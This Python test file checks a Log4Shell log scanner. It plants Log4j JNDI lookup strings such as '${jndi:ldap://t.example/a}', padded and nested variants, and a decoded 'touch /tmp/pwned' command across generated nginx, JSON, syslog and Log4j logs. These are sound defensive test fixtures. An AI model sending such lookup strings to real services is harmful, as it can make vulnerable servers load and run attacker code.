"""t_logs.py - end-to-end tests of `log4scan logs` (the agent built with
ASan+UBSan, $L4S; $L4S_PLAIN, the optimised build, for the gigabyte line).

Attack logs are generated from tests/cases/logs-payloads.tsv: every payload
is logged in a different log format (nginx/apache access, JSON, syslog,
Log4j pattern layout), in plain, gzip, concatenated-gzip and rotated files
under a directory tree that also holds a symlink (not followed) and a FIFO
(an error record).  The JSON records must match the table one to one.
Benign logs (generated with plenty of '$', '%', '&', '${name}' and this
host's own /var/log) must give no attempt.  Then the hostile inputs:
truncated gzip, binary garbage, a gigabyte single line (bounded memory and
time), and the command line contract (exit status, --output, stdin)."""
import gzip
import http.server
import json
import os
import random
import resource
import subprocess
import sys
import threading
import time

L4S = os.environ.get("L4S", "build/san/log4scan")
L4S_PLAIN = os.environ.get("L4S_PLAIN", "build/log4scan")
OUT = os.environ.get("OUT", "tests/out/t_logs")
TOP = os.environ.get("TOP", ".")
os.makedirs(OUT, exist_ok=True)


def ok(name, cond, why=""):
    if cond:
        print("ok " + name)
    else:
        print("not ok " + name + (" - " + why if why else ""))
    return cond


def run(args, stdin=None, binary=L4S, timeout=600):
    p = subprocess.run([binary, "logs"] + args, input=stdin, stdout=subprocess.PIPE,
                       stderr=subprocess.PIPE, timeout=timeout)
    return p.returncode, p.stdout, p.stderr


def records(out):
    return [json.loads(l) for l in out.decode().splitlines() if l.strip()]


def read_table(name):
    rows = []
    with open(os.path.join(TOP, "tests/cases", name), encoding="utf-8") as f:
        for line in f:
            line = line.rstrip("\n")
            if not line or line.startswith("#"):
                continue
            rows.append(line.split("\t"))
    return rows


payloads = read_table("logs-payloads.tsv")
near_misses = read_table("logs-near-misses.tsv")
rng = random.Random(4)

# ---- formats a payload can be logged in --------------------------------

def nginx(i, payload):
    return ('198.51.100.%d - - [10/Dec/2021:%02d:%02d:07 +0000] "GET /index.html?id=%d HTTP/1.1" '
            '200 612 "-" "%s"' % (i % 250 + 1, i % 24, i % 60, i, payload))


def nginx_query(i, payload):
    return ('2001:db8::%x - - [11/Dec/2021:01:02:03 +0100] "GET /search?q=%s&page=2 HTTP/1.1" '
            '404 0 "https://example.org/a?b=%%20c&d=1" "Mozilla/5.0"' % (i + 1, payload))


def json_log(i, payload):
    return json.dumps({"time": "2021-12-12T10:11:12.123Z", "level": "WARN",
                       "msg": "login failed for user " + payload, "n": i})


def syslog(i, payload):
    return "Dec 13 08:01:%02d web1 app[%d]: header X-Api-Version: %s" % (i % 60, 1000 + i, payload)


def log4j_layout(i, payload):
    return "2021-12-14 08:01:02,345 [http-nio-8080-exec-%d] INFO  c.e.Login - user=%s" % (i, payload)


formats = [nginx, nginx_query, json_log, syslog, log4j_layout]
# formats where a '}' of the line cannot close what a payload leaves open
plain_formats_all = [nginx, syslog, log4j_layout]
expected_day = {nginx: "2021-12-10", nginx_query: "2021-12-11", json_log: "2021-12-12",
                syslog: "--12-13", log4j_layout: "2021-12-14"}


def benign_line(i):
    kind = i % 5
    if kind == 0:
        return ('203.0.113.%d - bob [10/Dec/2021:13:55:%02d +0000] "GET /shop/cart?item=%d&price=$%d.99'
                '&q=caf%%C3%%A9%%20au%%20lait HTTP/1.1" 200 %d "https://example.org/?a=1&b=%%24x" '
                '"Mozilla/5.0 (X11; Linux x86_64)"' % (i % 250, i % 60, i, i % 100, 100 + i))
    if kind == 1:
        return json.dumps({"ts": "2021-12-10T13:55:36Z", "tmpl": "Hello ${name}, you owe $%d" % i,
                           "path": "C:\\\\Users\\\\x", "esc": "\\u0041 &amp; &lt;b&gt; %25"})
    if kind == 2:
        return "Dec 10 13:55:36 host CRON[%d]: (root) CMD (test -x $HOME/bin/run && ${SHELL:-sh} -c 'echo 100%%')" % i
    if kind == 3:
        return "2021-12-10 13:55:36,123 [main] DEBUG c.e.Conf - resolved ${sys:user.home} to /home/x; ${java:version}"
    return ('198.51.100.9 - - [10/Dec/2021:13:55:36 +0000] "POST /api/v1/items?filter=%%7B%%22a%%22%%3A1%%7D'
            ' HTTP/1.1" 201 17 "-" "python-requests/2.26 jndi docs at /docs/jndi/ldap.html"')


def write(path, lines, compress=False):
    data = ("\n".join(lines) + "\n").encode()
    if compress:
        data = gzip.compress(data)
    with open(path, "wb") as f:
        f.write(data)


# ---- the attack tree ---------------------------------------------------

tree = os.path.join(OUT, "var-log")
os.makedirs(os.path.join(tree, "nginx"), exist_ok=True)
os.makedirs(os.path.join(tree, "app", "old"), exist_ok=True)
files = [os.path.join(tree, "nginx", "access.log"), os.path.join(tree, "nginx", "access.log.1"),
         os.path.join(tree, "nginx", "access.log.2.gz"), os.path.join(tree, "app", "app.json"),
         os.path.join(tree, "app", "old", "app.log.3.gz")]
content = {f: [] for f in files}
expect = {}  # (path, line) -> (row, format)
for i, row in enumerate(payloads):
    path = files[i % len(files)]
    fmt = formats[i % len(formats)]
    lines = content[path]
    for k in range(rng.randint(0, 30)):
        lines.append(benign_line(i * 31 + k))
    lines.append(fmt(i, row[1]))
    expect[(path, len(lines))] = (row, fmt)
for path in files:
    content[path].append(benign_line(7))
    write(path, content[path], compress=path.endswith(".gz"))
# a copy whose gzip has two members must give the same attempts twice
half = len(content[files[2]]) // 2
with open(os.path.join(tree, "nginx", "access.log.2.gz"), "wb") as f:
    f.write(gzip.compress(("\n".join(content[files[2]][:half]) + "\n").encode()))
    f.write(gzip.compress(("\n".join(content[files[2]][half:]) + "\n").encode()))
os.symlink(os.path.abspath(files[0]), os.path.join(tree, "nginx", "link-to-access.log"))
fifo = os.path.join(tree, "app", "pipe")
os.mkfifo(fifo)

rc, out, err = run(["--format", "json", tree])
recs = records(out)
attempts = [r for r in recs if r["kind"] == "attempt"]
errors = [r for r in recs if r["kind"] == "error"]
summary = [r for r in recs if r["kind"] == "summary"]
ok("tree: exit status 1 when attempts found", rc == 1, "rc=%d %s" % (rc, err[-300:]))
ok("tree: every attempt performed", attempts and all(a["status"] == "performed" for a in attempts))
ok("tree: every payload reported exactly once", len(attempts) == len(payloads),
   "%d attempts for %d payloads" % (len(attempts), len(payloads)))
got = {(a["path"], a["line"]): a for a in attempts}
for (path, line), (row, fmt) in expect.items():
    name = row[0]
    a = got.get((path, line))
    if not ok("tree: %s found at %s:%d" % (name, os.path.basename(path), line), a is not None):
        continue
    ok("tree: %s decoded" % name, a["decoded"] == row[2], "%r != %r" % (a["decoded"], row[2]))
    want_exfil = [x for x in (row[3] if len(row) > 3 else "").split(",") if x]
    ok("tree: %s exfil" % name, a["exfil"] == want_exfil, "%r" % a["exfil"])
    raw_ok = a["raw"] == row[1] or (fmt is json_log and json.loads('"%s"' % a["raw"]) == row[1])
    ok("tree: %s raw" % name, raw_ok, "%r" % a["raw"])
    ok("tree: %s day" % name, a["timestamp"] is not None and
       (a["timestamp"].startswith(expected_day[fmt]) or
        (fmt is syslog and a["timestamp"].startswith("Dec 13"))), "%r" % a["timestamp"])
    if fmt in (nginx, nginx_query):
        ok("tree: %s client" % name, a["client"] and ("198.51.100." in a["client"] or
                                                         a["client"].startswith("2001:db8::")))
    else:
        ok("tree: %s no client outside access logs" % name, a["client"] is None)
    for key in ("offset", "protocol", "host", "port"):
        ok("tree: %s has %s" % (name, key), key in a)
ok("tree: symlink not followed", not any("link-to" in r.get("path", "") for r in recs) and
   summary and summary[0]["symlinks_not_followed"] == 1)
ok("tree: FIFO gives an error record", any(e["path"] == fifo for e in errors) and
   summary and summary[0]["not_regular"] == 1, "%r" % errors)
ok("tree: one summary, last", len(summary) == 1 and recs[-1]["kind"] == "summary")
if summary:
    s = summary[0]
    ok("tree: summary counts", s["attempts"] == len(payloads) and s["files"] == len(files),
       "%r" % s)
    ok("tree: summary by host adds up", sum(h["attempts"] for h in s["by_host"]) == len(payloads))
    top = s["by_host"][0] if s["by_host"] else {}
    ok("tree: summary top host", top.get("host") == "x.example", "%r" % top)
    ok("tree: summary by day", {d["day"] for d in s["by_day"]} <= set(expected_day.values()),
       "%r" % s["by_day"])
protos = {a["protocol"] for a in attempts}
ok("tree: protocols seen", {"ldap", "ldaps", "rmi", "dns", "iiop", "corba", "nds", "http", "nis"} <= protos,
   "%r" % protos)
b64 = [a for a in attempts if a.get("payload")]
ok("tree: base64 command decoded", len(b64) == 1 and b64[0]["payload"] == "touch /tmp/pwned",
   "%r" % b64)

# text output of the same tree: same count, control bytes escaped
rc, out, err = run([tree])
text = out.decode()
ok("text: one line per attempt header", text.count(": attempt jndi:") == len(payloads))
ok("text: summary line", "summary: %d attempts" % len(payloads) in text)

# ---- statuses: performed_alone, broken, bound ---------------------------

statuses = read_table("logs-statuses.tsv")
sdir = os.path.join(OUT, "statuses")
os.makedirs(sdir, exist_ok=True)
slines = [plain_formats_all[i % len(plain_formats_all)](i, row[1]) for i, row in enumerate(statuses)]
# padding past the message window: a bound attempt
slines.append(log4j_layout(99, "${${" + "x" * 20000 + ":-}jndi:ldap://pad.example/a}"))
write(os.path.join(sdir, "app.log"), slines)
rc, out, err = run(["--format", "json", os.path.join(sdir, "app.log")])
recs = records(out)
att = {r["line"]: r for r in recs if r["kind"] == "attempt"}
for i, row in enumerate(statuses):
    a = att.get(i + 1)
    ok("status %s: %s" % (row[0], row[2]), a is not None and a["status"] == row[2] and a["decoded"] == row[3],
       "%r" % a)
pad = att.get(len(slines))
ok("status padding: bound, which bound", pad is not None and pad["status"] == "bound" and
   pad["bound"] == "expression length" and pad["decoded"] == "" and pad["protocol"] == "", "%r" % pad)
summ = recs[-1]
n_broken = sum(1 for r in statuses if r[2] == "broken")
ok("statuses: broken attempts are counted apart", summ.get("broken_attempts") == n_broken and
   summ.get("attempts") == len(statuses) - n_broken + 1 and summ.get("bound_attempts") == 1, "%r" % summ)
ok("statuses: broken attempts are not in the summary by host",
   sum(h["attempts"] for h in summ.get("by_host", [])) == summ.get("attempts"), "%r" % summ)
broken_only = os.path.join(sdir, "broken.log")
write(broken_only, [log4j_layout(1, r[1]) for r in statuses if r[2] == "broken"])
rc, out, err = run(["--format", "json", broken_only])
ok("statuses: only broken attempts: exit status 0", rc == 0 and records(out)[-1]["broken_attempts"] == n_broken,
   "rc=%d %s" % (rc, out[-300:]))
rc, out, err = run([os.path.join(sdir, "app.log")])
text = out.decode()
ok("statuses: text output names each status",
   "broken attempt jndi:" in text and "when logged apart from the line's earlier text" in text and
   "possible attempt, not evaluated: expression length bound" in text and
   "%d broken attempts" % n_broken in text, text[-600:])

# what --submit sends: every record but broken attempts
bodies = []


class Collector(http.server.BaseHTTPRequestHandler):
    def do_POST(self):
        bodies.append(self.rfile.read(int(self.headers.get("Content-Length", 0))))
        answer = b'{"accepted":true}'
        self.send_response(200)
        self.send_header("Content-Type", "application/json")
        self.send_header("Content-Length", str(len(answer)))
        self.end_headers()
        self.wfile.write(answer)

    def log_message(self, *args):
        pass


# (the Windows build, which t_windows runs this test with, has no --submit)
if not os.environ.get("L4S_WIN_EXE"):
    collector = http.server.HTTPServer(("127.0.0.1", 0), Collector)
    threading.Thread(target=collector.serve_forever, daemon=True).start()
    rc, out, err = run(["--format", "json", "--submit", "http://127.0.0.1:%d" % collector.server_port, "--token", "t",
                        "--spool-dir", os.path.join(sdir, "spool"), os.path.join(sdir, "app.log")])
    collector.shutdown()
    sent = [json.loads(l) for b in bodies for l in b.decode().splitlines() if l.strip()]
    sent_att = [r for r in sent if r.get("kind") == "attempt"]
    ok("statuses: --submit sends the attempts, broken ones excepted",
       rc == 1 and len(sent_att) == len(statuses) - n_broken + 1 and
       not [r for r in sent_att if r["status"] == "broken"], "rc=%d %d sent %s" % (rc, len(sent_att), err[-300:]))

# ---- near misses and benign logs --------------------------------------

benign = os.path.join(OUT, "benign")
os.makedirs(benign, exist_ok=True)
lines = []
# Not in the JSON format: a closing '}' of the JSON record would close an
# unterminated lookup, which is then (rightly) an attempt.
plain_formats = [f for f in formats if f is not json_log]
for i, row in enumerate(near_misses):
    lines.append(plain_formats[i % len(plain_formats)](i, row[1]))
lines += [benign_line(i) for i in range(20000)]
write(os.path.join(benign, "mixed.log"), lines)
write(os.path.join(benign, "mixed.log.1.gz"), lines, compress=True)
rc, out, err = run(["--format", "json", benign])
recs = records(out)
ok("benign: exit status 0", rc == 0, "rc=%d" % rc)
ok("benign: no attempt in generated nginx/apache/syslog/JSON logs",
   not [r for r in recs if r["kind"] == "attempt"], out.decode()[:500])
ok("benign: lines counted", recs and recs[-1].get("lines") == 2 * len(lines), "%r" % recs[-1:])

rc, out, err = run(["--format", "json", "/var/log"])
recs = records(out)
ok("debian /var/log: no attempt", rc in (0, 2) and not [r for r in recs if r["kind"] == "attempt"],
   "rc=%d %s" % (rc, out.decode()[:300]))
docs = sorted(os.path.join("/usr/share/doc", d, "changelog.Debian.gz") for d in os.listdir("/usr/share/doc"))
docs = [d for d in docs if os.path.isfile(d)][:200]
if docs:
    rc, out, err = run(["--format", "json"] + docs)
    recs = records(out)
    ok("debian changelogs (gzip): no attempt", rc == 0 and recs[-1]["files"] == len(docs),
       "rc=%d %s" % (rc, out.decode()[:300]))

# ---- hostile and broken input -----------------------------------------

attack = ("1.2.3.4 - - [10/Dec/2021:00:00:00 +0000] \"GET /${jndi:ldap://t.example/a} HTTP/1.1\" 200 1\n" * 3000).encode()
gz = gzip.compress(attack)
trunc = os.path.join(OUT, "truncated.log.gz")
with open(trunc, "wb") as f:
    f.write(gz[: len(gz) // 2])
rc, out, err = run(["--format", "json", trunc])
recs = records(out)
n_att = len([r for r in recs if r["kind"] == "attempt"])
ok("truncated gzip: error record", any(r["kind"] == "error" and "truncated" in r["error"] for r in recs),
   out.decode()[-300:])
ok("truncated gzip: attempts before the cut reported", 0 < n_att < 3000, "%d" % n_att)
ok("truncated gzip: no crash", rc in (0, 1) and b"ERROR: AddressSanitizer" not in err)

trailing = os.path.join(OUT, "trailing.gz")
with open(trailing, "wb") as f:
    f.write(gzip.compress(b"${jndi:ldap://t.example/a}\n") + b"garbage after the member")
rc, out, err = run(["--format", "json", trailing])
recs = records(out)
ok("gzip trailing garbage: attempt kept and error recorded",
   rc == 1 and any(r["kind"] == "error" and "trailing" in r["error"] for r in recs), out.decode()[-300:])

garbage = os.path.join(OUT, "garbage.bin")
with open(garbage, "wb") as f:
    f.write(bytes(rng.getrandbits(8) for _ in range(3 << 20)))
    f.write(b"\x1f\x8b" + bytes(rng.getrandbits(8) for _ in range(1000)))
rc, out, err = run(["--format", "json", garbage])
ok("binary garbage: clean exit", rc == 0 and b"Sanitizer" not in err, "rc=%d %s" % (rc, err[-300:]))
fake_gz = os.path.join(OUT, "fake.gz")
with open(fake_gz, "wb") as f:
    f.write(b"\x1f\x8b" + bytes(rng.getrandbits(8) for _ in range(100000)))
rc, out, err = run(["--format", "json", fake_gz])
recs = records(out)
ok("corrupt gzip: error record", any(r["kind"] == "error" and "gzip" in r["error"] for r in recs),
   out.decode()[-300:])

binline = b"\x00\xff${jndi:ldap://bin.example/\x00\x01\xfe}\n"
rc, out, err = run(["--format", "json", "-"], stdin=binline)
recs = records(out)
att = [r for r in recs if r["kind"] == "attempt"]
ok("binary bytes in raw: base64 sibling", len(att) == 1 and "raw_b64" in att[0], out.decode()[:300])
rc, out, err = run(["-"], stdin=b"\x1b[31m${jndi:ldap://esc.example/\x1b]0;x\x07}\n")
ok("text output escapes control bytes", rc == 1 and b"\x1b" not in out and b"\\x1b" in out, repr(out[:300]))


def hostile_line_test(label, binary, size, piece, tail, limit_s, limit_mb, bound_ok=0):
    """Pipe a single line of `size` bytes made of `piece`, ending in `tail`."""
    before = resource.getrusage(resource.RUSAGE_CHILDREN).ru_maxrss
    t0 = time.time()
    p = subprocess.Popen([binary, "logs", "--format", "json", "-"], stdin=subprocess.PIPE,
                         stdout=subprocess.PIPE, stderr=subprocess.PIPE)
    block = piece * ((1 << 20) // len(piece))
    sent = 0
    try:
        while sent < size:
            p.stdin.write(block)
            sent += len(block)
        p.stdin.write(tail)
        p.stdin.close()
    except BrokenPipeError:
        pass
    out = p.stdout.read()
    p.wait()
    secs = time.time() - t0
    rss_mb = resource.getrusage(resource.RUSAGE_CHILDREN).ru_maxrss / 1024.0
    recs = records(out)
    att = [r for r in recs if r["kind"] == "attempt"]
    found = [r for r in att if r["status"] != "bound"]
    ok("%s: finds the payload at its end" % label, p.returncode == 1 and len(found) == 1 and
       found[0]["offset"] == sent and found[0]["line"] == 1 and found[0]["decoded"] == "jndi:ldap://end.example/a",
       "rc=%s %s" % (p.returncode, out[-300:]))
    # junk before it that never closes: at most one "bound" attempt for the
    # line (what Log4j would do with it is beyond the bounds), and the
    # payload, which Log4j performs if the message starts there
    ok("%s: at most one bound attempt, at the junk" % label,
       len(att) - len(found) <= bound_ok and all(r["offset"] == 0 for r in att if r["status"] == "bound"),
       "%r" % [(r["status"], r["offset"]) for r in att])
    ok("%s: bounded time (%.1f s)" % (label, secs), secs < limit_s)
    ok("%s: bounded memory (%.0f MB peak)" % (label, rss_mb), rss_mb < limit_mb or rss_mb <= before / 1024.0)
    print("# %s: %.1f s, peak RSS %.0f MB" % (label, secs, rss_mb))


tail = b"%24%7Bjndi:ldap://end.example/a%7D"
if os.access(L4S_PLAIN, os.X_OK):
    hostile_line_test("1 GB single line", L4S_PLAIN, 1 << 30, b"a" * 63 + b"%", tail, 120, 64)
hostile_line_test("64 MB single line (sanitized build)", L4S, 64 << 20, b"GET /?a=1&b=%20$x ", tail, 120, 400)
hostile_line_test("32 MB of nested ${ (sanitized build)", L4S, 32 << 20, b"${${lower:${", tail, 120, 400, 1)

# ---- command line ------------------------------------------------------

rc, out, err = run(["--format", "yaml", tree])
ok("bad --format: exit 2", rc == 2)
rc, out, err = run(["--bogus"])
ok("unknown option: exit 2", rc == 2)
rc, out, err = run([])
ok("no path: exit 2", rc == 2)
rc, out, err = run(["--format", "json", os.path.join(OUT, "does-not-exist")])
ok("nothing readable: exit 2 with an error record (after the envelope)",
   rc == 2 and [r["kind"] for r in records(out)][:2] == ["report", "error"])
rc, out, err = run(["--help"])
ok("--help: exit 0 and usage", rc == 0 and b"usage: log4scan logs" in out)
rc, out, err = run(["--format", "json", "-"], stdin=gzip.compress(attack))
recs = records(out)
ok("stdin gzip: attempts found", rc == 1 and recs[-1]["attempts"] == 3000, "%r" % recs[-1:])
ok("stdin: the envelope first, then attempts whose path is -",
   recs and recs[0]["kind"] == "report" and recs[1]["path"] == "-")
outfile = os.path.join(OUT, "report.jsonl")
rc, out, err = run(["--format=json", "--output", outfile, tree])
with open(outfile, "rb") as f:
    saved = records(f.read())
ok("--output: written there, nothing on stdout", rc == 1 and not out and saved[-1]["kind"] == "summary")
rc, out, err = run(["--format", "json", os.path.join(OUT, "does-not-exist"), os.path.join(benign, "mixed.log")])
ok("one unreadable path among readable ones: exit 0", rc == 0)
